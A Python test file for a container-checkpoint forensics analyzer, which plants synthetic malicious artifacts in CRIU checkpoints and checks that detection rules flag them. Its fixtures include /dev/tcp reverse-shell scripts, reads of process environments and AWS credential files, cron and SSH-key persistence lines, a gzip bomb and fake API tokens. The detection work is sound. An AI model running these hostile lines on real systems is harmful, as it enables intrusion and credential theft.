"""kcsi analyze's content rules (lib/triage/rules_content.c, rules_files.c,
rules_creds.c, lib/evidence/secrets.c) on checkpoints built here from the
fixtures — a program and a passwd copy in /dev/shm, a tmpfs mount CRIU
dumped, a ghost file kept in chunks, a send queue holding hashes, an archive
of /etc and tokens, secrets of known formats in a file, persistence files,
a gzip bomb — and on the lab's scenes (made when the lab can run): the
benign awsenv and in-cluster client stay clean, the credential thief of
k8screds-py is critical, the deleted agent of lock-loader is hashed.

Every secret here is made up in the test; no output may hold one whole."""
import gzip
import hashlib
import io
import json
import random
import string
import tarfile
import zlib

from kt import eq
import pbedit
import test_hostile_reader as hr

R = random.Random(1313)
AN = string.ascii_letters + string.digits


def _tar(files):
    """A plain tar of {path: bytes} (paths relative, as CRIU and podman write them)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode='w', format=tarfile.GNU_FORMAT) as t:
        for name, data in files.items():
            ti = tarfile.TarInfo(name)
            ti.size, ti.mode, ti.mtime = len(data), 0o755 if data[:4] == b'\x7fELF' else 0o644, 1700000000
            t.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def _elf():
    """A small ELF header: an executable (ET_EXEC, x86-64), bytes made here."""
    h = bytearray(64)
    h[0:4] = b'\x7fELF'
    h[4], h[5], h[6] = 2, 1, 1
    h[16:18] = (2).to_bytes(2, 'little')
    h[18:20] = (62).to_bytes(2, 'little')
    return bytes(h) + bytes(R.getrandbits(8) for _ in range(3000))


PASSWD = (b'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n'
          b'bin:x:2:2:bin:/bin:/usr/sbin/nologin\nsys:x:3:3:sys:/dev:/usr/sbin/nologin\n')
SHADOW = (b'root:$y$j9T$abcdefgh$0123456789abcdefghijklmnopqrstuvwxyzABCDE:19700:0:99999:7:::\n'
          b'daemon:*:19700:0:99999:7:::\nbin:*:19700:0:99999:7:::\n')


def _github_token():
    body = ''.join(R.choice(AN) for _ in range(30))
    crc, out = zlib.crc32(body.encode()), ''
    b62 = string.digits + string.ascii_uppercase + string.ascii_lowercase
    for _ in range(6):
        crc, r = divmod(crc, 62)
        out = b62[r] + out
    return 'ghp_' + body + out


def _secrets():
    return {
        'stripe': 'sk_live_' + ''.join(R.choice(AN) for _ in range(24)),
        'github': _github_token(),
        'gitlab': 'glpat-' + ''.join(R.choice(AN) for _ in range(20)),
        'slack': 'xoxb-%d-%d-%s' % (R.randint(10 ** 11, 10 ** 12), R.randint(10 ** 12, 10 ** 13),
                                    ''.join(R.choice(AN) for _ in range(24))),
        'aws': 'AKIA' + ''.join(R.choice(string.ascii_uppercase + '234567') for _ in range(16)),
    }


def _analyze(path, *args):
    rc, out, err, _ = hr.run_bounded(['analyze', '--format', 'json'] + list(args) + [path], timeout=120,
                                     max_rss=1024 * hr.MiB)
    eq(rc, 0, 'analyze exit status (%s)' % err.strip())
    return json.loads(out)


def _find(r, fid):
    return [f for f in r['findings'] if f['id'] == fid]


def _evidence(fs):
    return [e for f in fs for e in f['evidence']]


def test_content_devshm_program_and_passwd_copy():
    """A program and a passwd copy in /dev/shm (podman's devshm-checkpoint.tar)
    got no finding, no sha256 and no YARA scan: only the rootfs diff was
    looked at.  Now both are seen, with where they are."""
    elf = _elf()
    ms = hr.members('counter')
    hr.put(ms, 'devshm-checkpoint.tar', _tar({'./.X11-unix0/kdmflush': elf, './.X11-unix0/.p': PASSWD}))
    r = _analyze(hr.write_tar(ms, hr.tmp('content-devshm.tar')))
    drop = _find(r, 'KCSI-DROP-001')
    assert any(e.get('path') == '/dev/shm/.X11-unix0/kdmflush' for e in _evidence(drop)), drop
    eq(drop[0]['severity'], 'high', 'a program in a memory-backed place')
    sha = {i['value']: i for i in r['iocs'] if i['type'] == 'sha256'}
    want = hashlib.sha256(elf).hexdigest()
    assert want in sha and sha[want]['source'].startswith('devshm /dev/shm/'), sha
    stage = _find(r, 'KCSI-STAGE-001')
    assert any(e.get('path') == '/dev/shm/.X11-unix0/.p' for e in _evidence(stage)), stage
    assert 'T1074.001' in stage[0]['mitre'] and 'T1003.008' in stage[0]['mitre'], stage
    eq(r['verdict'], 'malicious', 'two high findings')


def test_content_tool_dot_directories_and_hiding_places():
    """Every dot directory was a hiding place: a git clone's hook samples, pip's
    wheel cache and ~/.local/bin made two high KCSI-DROP-001 and a malicious
    verdict out of a build job, while /tmp/.../ (three dots) was no hiding
    place at all.  Tools' own dot directories in a home or a project are low
    (KCSI-DROP-002); the same names made right in a temporary directory, any
    other dot component, and "..." are high."""
    script = b'#!/bin/sh\nexit 0\n'
    home = random.choice(['root', 'home/builder'])
    tools = ['srv/app/.git/hooks/pre-commit.sample', 'tmp/build/repo/.git/hooks/pre-push.sample',
             '%s/.cache/pip/wheels/ab/cd/setup.sh' % home, '%s/.local/bin/black' % home,
             '%s/.cargo/bin/rustfmt' % home, 'srv/app/node_modules/.bin/eslint']
    hiding = ['tmp/.../agent', 'tmp/.cache/agent', 'var/tmp/.git/x', '%s/.cache/.%s/agent' % (home, _rand()),
              'opt/.%s/run' % _rand()]
    ms = hr.members('counter')
    hr.put(ms, 'rootfs-diff.tar', _tar({p: script for p in tools + hiding}))
    r = _analyze(hr.write_tar(ms, hr.tmp('content-dots.tar')))
    by_path = {e.get('path'): f['id'] for f in r['findings'] if f['id'].startswith('KCSI-DROP') for e in f['evidence']}
    for p in tools:
        eq(by_path.get('/' + p), 'KCSI-DROP-002', p)
    for p in hiding:
        eq(by_path.get('/' + p), 'KCSI-DROP-001', p)


def test_content_dropped_script_says_what_it_does():
    """A script dropped in a hiding place is judged by what its text does,
    line by line, with the shell-history patterns: a reverse shell and reads
    of other processes' environments and of a credential file (behind Perl's
    =>, which is no redirection) add their techniques to KCSI-DROP-001; a
    fetch over /dev/tcp three lines below a bash shebang is no shell."""
    host = '127.%d.%d.%d' % (random.randrange(256), random.randrange(256), random.randrange(1, 255))
    evil = ('#!/bin/sh\nfor e in /proc/[0-9]*/environ; do tr "\\0" "\\n" < "$e"; done > /tmp/.e\n'
            'exec 3<>/dev/tcp/%s/443 && sh <&3 >&3 2>&3\n'
            'perl -e \'my %%l = (aws => slurp("$ENV{HOME}/.aws/credentials"));\'\n'
            'echo "$TOKEN" > ~/.npmrc\n' % host).encode()
    fetch = ('#!/bin/bash\nset -e\n\nexec 3<>/dev/tcp/%s/80\nprintf "GET / HTTP/1.0\\r\\n\\r\\n" >&3\ncat <&3\n'
             % host).encode()
    a, b = '/var/tmp/.%s/u' % _rand(), '/var/tmp/.%s/f' % _rand()
    ms = hr.members('counter')
    hr.put(ms, 'rootfs-diff.tar', _tar({a.lstrip('/'): evil, b.lstrip('/'): fetch}))
    r = _analyze(hr.write_tar(ms, hr.tmp('content-script-does.tar')))
    drop = {e.get('path'): f for f in _find(r, 'KCSI-DROP-001') for e in f['evidence']}
    assert a in drop and b in drop, sorted(drop)
    for t in ('T1059.004', 'T1003.007', 'T1552.001'):
        assert t in drop[a]['mitre'], drop[a]
    assert 'shell over /dev/tcp' in drop[a]['explanation'], drop[a]['explanation']
    assert 'credential file' in drop[a]['explanation'], 'a read behind a fat comma: ' + drop[a]['explanation']
    assert 'T1059.004' not in drop[b]['mitre'] and 'What its text does' not in drop[b]['explanation'], drop[b]


def test_content_setuid_program_written():
    """A setuid (or setgid) program the container wrote is a way to become
    root in it: KCSI-PRIV-005 (high, T1548.001) with its mode.  The same
    program without the bit, and a setgid directory, are not."""
    elf = _elf()
    path = random.choice(['usr/local/bin/%s' % _rand(), 'var/tmp/.%s/sh' % _rand(), 'opt/%s/run' % _rand()])
    plain = 'usr/local/bin/%s' % _rand()
    tar_bytes = io.BytesIO()
    with tarfile.open(fileobj=tar_bytes, mode='w') as t:
        for name, mode, data in [(path, 0o4755, elf), (plain, 0o755, elf), ('srv/shared', 0o2775, None)]:
            ti = tarfile.TarInfo(name)
            ti.mode = mode
            if data is None:
                ti.type = tarfile.DIRTYPE
                t.addfile(ti)
            else:
                ti.size = len(data)
                t.addfile(ti, io.BytesIO(data))
    ms = hr.members('counter')
    hr.put(ms, 'rootfs-diff.tar', tar_bytes.getvalue())
    r = _analyze(hr.write_tar(ms, hr.tmp('content-setuid.tar')))
    priv = _find(r, 'KCSI-PRIV-005')
    eq([e.get('path') for f in priv for e in f['evidence']], ['/' + path], 'the setuid program only')
    eq(priv[0]['severity'], 'high', 'severity')
    assert 'T1548.001' in priv[0]['mitre'] and '4755' in priv[0]['evidence'][0]['excerpt'], priv[0]


def _rand(n=6):
    return ''.join(random.choice(string.ascii_lowercase) for _ in range(n))


def _mnt_entry(mnt_id, root_dev, mountpoint):
    """A MntEntry (mnt.proto) of a tmpfs mount at mountpoint."""
    return (hr.f_uint(1, 5) + hr.f_uint(2, mnt_id) + hr.f_uint(3, root_dev) + hr.f_uint(4, 1) + hr.f_uint(5, 0) +
            hr.f_bytes(6, b'/') + hr.f_bytes(7, mountpoint.encode()) + hr.f_bytes(8, b'tmpfs') +
            hr.f_bytes(9, b'size=65536k'))


def test_content_tmpfs_mount_is_walked():
    """A tmpfs mount CRIU dumps itself (an exec /dev/shm, an emptyDir of
    medium Memory) keeps its files in tmpfs-dev-<dev>.tar.gz.img, which
    nothing read: a script staged there was invisible."""
    ms = hr.members('counter')
    mp = ms['checkpoint/mountpoints-12.img'][1]
    hr.put(ms, 'checkpoint/mountpoints-12.img', hr.image('MNTS', hr.entries(mp) + [_mnt_entry(4242, 4242, '/run/lock')]))
    script = b'#!/bin/sh\nexec 3<>/dev/tcp/203.0.113.9/443; sh <&3 >&3 2>&3\n'
    hr.put(ms, 'checkpoint/tmpfs-dev-4242.tar.gz.img', gzip.compress(_tar({'./.lck/agent': script})))
    r = _analyze(hr.write_tar(ms, hr.tmp('content-tmpfs.tar')))
    drop = _find(r, 'KCSI-DROP-001')
    assert any(e.get('path') == '/run/lock/.lck/agent' and e.get('kind') == 'tmpfs' for e in _evidence(drop)), drop
    assert hashlib.sha256(script).hexdigest() in {i['value'] for i in r['iocs'] if i['type'] == 'sha256'}


def _chunked_ghost(entry, data, hole=8192):
    """A ghost image whose content is kept in two chunks with a hole between."""
    head, tail = data[:1000], data[1000:]
    body = [entry + hr.f_uint(9, 1) + hr.f_uint(10, len(data) + hole)]
    img = bytearray(hr.image('GHOST_FILE', body))
    for off, piece in ((0, head), (1000 + hole, tail)):
        chunk = hr.f_uint(1, len(piece)) + hr.f_uint(2, off)
        img += len(chunk).to_bytes(4, 'little') + chunk + piece
    return bytes(img)


def test_content_chunked_ghost_program():
    """A deleted file CRIU keeps in chunks (as 4.2 does for sparse files and
    deleted executables) was skipped: no sha256 IOC, no finding.  Its
    content is read as the file was, holes as zeros."""
    ms = hr.members('perlbot')
    raw = ms['checkpoint/ghost-file-1.img'][1]
    entry = hr.entries(raw[:8 + 4 + int.from_bytes(raw[8:12], 'little')])[0]
    elf = _elf()
    hr.put(ms, 'checkpoint/ghost-file-1.img', _chunked_ghost(entry, elf))
    r = _analyze(hr.write_tar(ms, hr.tmp('content-ghost-chunks.tar')))
    whole = elf[:1000] + bytes(8192) + elf[1000:]
    sha = {i['value']: i for i in r['iocs'] if i['type'] == 'sha256'}
    assert hashlib.sha256(whole).hexdigest() in sha, sorted(sha)
    drop = _find(r, 'KCSI-DROP-001')
    assert any(e.get('kind') == 'ghost-file' and e.get('path') == '/tmp/.ICE-unix/.journal' for e in _evidence(drop)), drop


def _with_send_queue(name, member, outq):
    ms = hr.members(name)
    raw = ms[member][1]
    fields = pbedit.msg(hr.entries(raw)[0])
    for f in fields:
        if f[0] in (1, 3):  # inq_len, outq_len
            f[2] = len(outq) if f[0] == 3 else 0
    hr.put(ms, member, hr.image('TCP_STREAM', [pbedit.enc(fields)]) + outq)
    return ms


def test_content_send_queue_staged_data_and_secrets():
    """The bytes waiting in a send queue were scanned for strings only: a tar
    stream of /etc with shadow lines and live tokens in it gave no
    collection or credential finding.  Now the queue is content like any
    file: what it holds is named, the tokens masked."""
    s = _secrets()
    tar = _tar({'etc/shadow': SHADOW, 'etc/hostname': b'web-1\n'})
    loot = ('\nSTRIPE=%s\nGH=%s\n' % (s['stripe'], s['github'])).encode()
    ms = _with_send_queue('perlbot', 'checkpoint/tcp-stream-8bb0.img', tar + loot)
    r = _analyze(hr.write_tar(ms, hr.tmp('content-queue.tar')))
    stage = _find(r, 'KCSI-STAGE-002')
    ev = _evidence(stage)
    assert any(e.get('kind') == 'tcp-queue' and e.get('pid') == 15 and 'send queue' in e.get('connection', '')
               for e in ev), stage
    assert any('etc/shadow' in e.get('excerpt', '') for e in ev), ev
    assert 'T1560.001' in stage[0]['mitre'], stage
    creds = _find(r, 'KCSI-CRED-001') + _find(r, 'KCSI-CRED-002')
    assert creds, [f['id'] for f in r['findings']]
    excerpts = ' '.join(e.get('excerpt', '') for e in _evidence(creds))
    assert s['stripe'][:12] + '... (32 characters)' in excerpts, excerpts
    assert s['github'][:8] + '... (40 characters)' in excerpts, excerpts
    text = json.dumps(r)
    for v in s.values():
        assert v not in text, 'a secret shown whole'


def test_content_secret_formats_in_a_file_masked_everywhere():
    """Secrets by known format in a file of the rootfs diff: one low finding
    naming the formats; no report format shows a value whole."""
    s = _secrets()
    conf = ('[billing]\nkey = %s\n[ci]\ntoken = %s\ngitlab = %s\nslack = %s\naws_access_key_id = %s\n'
            % (s['stripe'], s['github'], s['gitlab'], s['slack'], s['aws'])).encode()
    ms = hr.members('counter')
    hr.put(ms, 'rootfs-diff.tar', _tar({'srv/app/settings.ini': conf}))
    path = hr.write_tar(ms, hr.tmp('content-secrets-file.tar'))
    r = _analyze(path)
    f = _find(r, 'KCSI-SECRET-003')
    assert f and f[0]['severity'] == 'low', f
    for name in ('Stripe live secret key', 'GitHub token', 'GitLab personal access token', 'Slack token',
                 'AWS access key id'):
        assert name in f[0]['explanation'], (name, f[0]['explanation'])
    eq(r['verdict'], 'clean', 'secrets in a configuration file alone')
    for fmt in ('json', 'text', 'html', 'stix', 'misp'):
        rc, out, err, _ = hr.run_bounded(['analyze', '--format', fmt, path], timeout=120)
        eq(rc, 0, 'analyze --format %s (%s)' % (fmt, err.strip()))
        for v in s.values():
            assert v.encode() not in out, (fmt, 'a secret shown whole')


def test_content_persistence_carries_its_line():
    """Persistence findings named the file only; now they carry the cron line,
    the authorized key, the unit's ExecStart."""
    key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA%s intruder@box' % ''.join(R.choice(AN) for _ in range(43))
    cron = '*/7 * * * * root /usr/local/lib/.cache/u.sh >/dev/null 2>&1'
    unit = 'ExecStart=/bin/sh -c "exec /var/tmp/.x/agent"'
    ms = hr.members('counter')
    hr.put(ms, 'rootfs-diff.tar', _tar({
        'etc/cron.d/cache': ('# refresh the cache\nSHELL=/bin/sh\n%s\n' % cron).encode(),
        'root/.ssh/authorized_keys': ('%s\n' % key).encode(),
        'etc/systemd/system/cache.service': ('[Unit]\nDescription=c\n[Service]\n%s\n' % unit).encode(),
    }))
    r = _analyze(hr.write_tar(ms, hr.tmp('content-persist.tar')))
    got = {e['path']: e.get('excerpt') for e in _evidence(_find(r, 'KCSI-PERSIST-001'))}
    eq(got.get('/etc/cron.d/cache'), cron, 'the cron line')
    eq(got.get('/root/.ssh/authorized_keys'), key, 'the key')
    eq(got.get('/etc/systemd/system/cache.service'), unit, 'the ExecStart line')


def test_content_gzip_bomb_in_devshm_bounded():
    """A tar.gz in /dev/shm holding etc/shadow, then 256 MiB of zeros (a
    gzip bomb of a megabyte): the archive is named as staged data from its
    head, inflated as far as its first megabytes only (bounded time and
    memory)."""
    shadow = tarfile.TarInfo('etc/shadow')
    shadow.size = len(SHADOW)
    zeros = tarfile.TarInfo('var/cache/blob')
    zeros.size = 256 << 20
    comp = zlib.compressobj(1, zlib.DEFLATED, 31)
    parts = [comp.compress(shadow.tobuf(tarfile.GNU_FORMAT) + SHADOW + bytes(-len(SHADOW) % 512)),
             comp.compress(zeros.tobuf(tarfile.GNU_FORMAT))]
    chunk = bytes(1 << 20)
    parts += [comp.compress(chunk) for _ in range(256)]
    bomb = b''.join(parts) + comp.compress(bytes(1024)) + comp.flush()
    ms = hr.members('counter')
    hr.put(ms, 'devshm-checkpoint.tar', _tar({'./.cache/fonts.bin': bomb}))
    path = hr.write_tar(ms, hr.tmp('content-gzip-bomb.tar'))
    rc, out, err, _ = hr.run_bounded(['analyze', '--format', 'json', path], timeout=60, max_rss=512 * hr.MiB)
    eq(rc, 0, 'exit status (%s)' % err.strip())
    stage = _find(json.loads(out), 'KCSI-STAGE-001')
    assert any('etc/shadow' in e.get('excerpt', '') and e.get('path') == '/dev/shm/.cache/fonts.bin'
               for e in _evidence(stage)), stage


# ---- the lab's scenes (skipped where the lab cannot run) ----

def _scene(name):
    import test_lab
    arch, truth = test_lab.scenario(name)
    return _analyze(arch), truth


def _medium_up(r):
    return [f['id'] for f in r['findings'] if f['severity'] in ('medium', 'high', 'critical')]


def test_content_lab_awsenv_env_secrets_one_low_finding():
    """A workload with AWS keys in its environment was suspicious (a medium
    secret finding per process holding them); the environment is now one
    low finding for the container."""
    r, truth = _scene('awsenv')
    eq(r['verdict'], 'clean', 'verdict')
    env = _find(r, 'KCSI-SECRET-004')
    eq(len(env), 1, 'one finding for the environment')
    key = truth['params']['secrets']['aws_access_key_id']
    assert any(key[:8] + '... (20 characters)' in e.get('excerpt', '') for e in _evidence(env)), env
    assert not _find(r, 'KCSI-CRED-001'), 'the workload uses its own keys'


def test_content_lab_incluster_client_clean():
    """The workload reading its own service-account token to talk to its API
    server is how in-cluster clients work: clean."""
    r, _ = _scene('incluster-client')
    eq(_medium_up(r), [], 'nothing of medium severity or more')


def test_content_lab_k8screds_py_thief_is_critical():
    """A side Python process holding the SA token, gcloud and Azure
    credentials with a connection out: credential access, critical."""
    r, truth = _scene('k8screds-py')
    cred = _find(r, 'KCSI-CRED-001')
    pid = truth['facts']['thief_pid'] if 'thief_pid' in truth['facts'] else truth['facts']['thief'][0]['pid']
    assert cred and cred[0]['severity'] == 'critical', cred
    assert {'T1528', 'T1552.007', 'T1552.001'} <= set(cred[0]['mitre']), cred[0]['mitre']
    assert all(e.get('pid') == pid for e in cred[0]['evidence'] if 'pid' in e), cred
    jwt = truth['params']['secrets']['jwt']
    assert jwt not in json.dumps(r), 'the token is masked'


def test_content_lab_lock_loader_deleted_agent_hashed():
    """The agent run from /run/lock and deleted, and the stager in /dev/shm:
    their sha256 are IOCs, and the tar.gz of /etc and /root is staged data."""
    r, truth = _scene('lock-loader')
    sha = {i['value'] for i in r['iocs'] if i['type'] == 'sha256'}
    assert truth['params']['agent_sha256'] in sha and truth['params']['stager_sha256'] in sha, sha
    assert _find(r, 'KCSI-STAGE-001'), [f['id'] for f in r['findings']]
    eq(r['verdict'], 'malicious', 'verdict')
